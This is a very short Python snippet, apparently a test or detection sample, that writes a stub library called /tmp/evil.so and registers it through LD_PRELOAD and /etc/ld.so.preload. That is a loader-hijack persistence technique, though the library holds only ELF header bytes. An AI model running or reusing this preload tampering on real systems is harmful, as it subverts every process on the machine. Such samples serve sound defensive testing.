import os

open("/tmp/evil.so", "wb").write(b"\x7fELF")
os.environ["LD_PRELOAD"] = "/tmp/evil.so"
open("/etc/ld.so.preload", "w").write("/tmp/evil.so")
